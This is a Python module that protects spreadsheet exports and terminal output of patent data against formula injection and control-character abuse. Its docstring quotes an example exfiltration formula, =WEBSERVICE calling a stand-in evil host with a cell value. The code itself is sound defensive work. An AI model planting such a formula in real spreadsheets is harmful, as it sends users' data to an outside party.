"""Stored text made harmless where it is shown: spreadsheet cells and terminals.

Patent data are written by others: an owner name ``=WEBSERVICE("http://evil.example/?q="&B2)`` would become a
live formula in a spreadsheet, and a title holding ``ESC]0;…`` (window title), ``ESC[2J`` (clear screen) or an
OSC-8 hyperlink would drive the terminal it is printed on. Every CSV or XLSX writer passes its tables through
:func:`spreadsheet_frame`; every printed value goes through :func:`terminal_text` (or :func:`terminal_markup`
for rich, whose ``[link=…]`` markup would otherwise turn text into a hyperlink).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

# What a spreadsheet evaluates: a cell starting with = + - @ (OWASP "CSV injection"), or with a tab or a
# carriage return, which some applications strip before evaluating; leading spaces do not protect.
_FORMULA_START = frozenset("=+-@\t\r")
_LEADING_SPACE = " \n\u00a0\u3000"
# a number written as text ("-12", "+3.5", "-1e-3", "-4%") is left alone: a spreadsheet reads it as a number
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
# Control characters XLSX cannot hold (openpyxl refuses them): C0 but tab, newline and carriage return.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# What a terminal obeys or reorders: C0 controls but newline and tab, DEL, C1 controls (0x9b is a one-byte
# CSI), and the bidirectional overrides and isolates that make a text display as something else.
_TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def spreadsheet_cell(value: Any) -> Any:
    """A cell a spreadsheet shows as the text it is: a string that would be evaluated gets a leading ``'``
    (the spreadsheet convention for "text"); numbers, and text that is a plain number, are unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(_LEADING_SPACE)[:1]
    if value[0] in "\t\r" or (first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value.strip())):
        return "'" + value
    return value


def spreadsheet_frame(df: pd.DataFrame, *, xlsx: bool = False) -> pd.DataFrame:
    """A copy of ``df`` with every text cell and column name passed through :func:`spreadsheet_cell`
    (numeric columns untouched); ``xlsx``: control characters XLSX cannot hold written as ``\\x1b``."""

    def cell(value: Any) -> Any:
        value = spreadsheet_cell(value)
        return _XLSX_ILLEGAL.sub(_escape, value) if xlsx and isinstance(value, str) else value

    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
            out[column] = out[column].map(cell, na_action="ignore")
    out.columns = [cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def terminal_text(value: Any) -> str:
    """``str(value)`` with every control character the terminal would obey shown as an escape (``\\x1b``);
    newlines and tabs stay."""
    return _TERMINAL_CONTROL.sub(_escape, value if isinstance(value, str) else str(value))


def terminal_markup(value: Any) -> str:
    """:func:`terminal_text` with rich's markup escaped too: for a value printed through rich."""
    from rich.markup import escape

    return escape(terminal_text(value))


def terminal_json(text: str) -> str:
    """JSON text (``ensure_ascii=False``) with the controls JSON leaves raw (DEL, C1, bidirectional
    overrides) written as ``\\u`` escapes: the same JSON value, harmless on a terminal."""
    return _TERMINAL_CONTROL.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
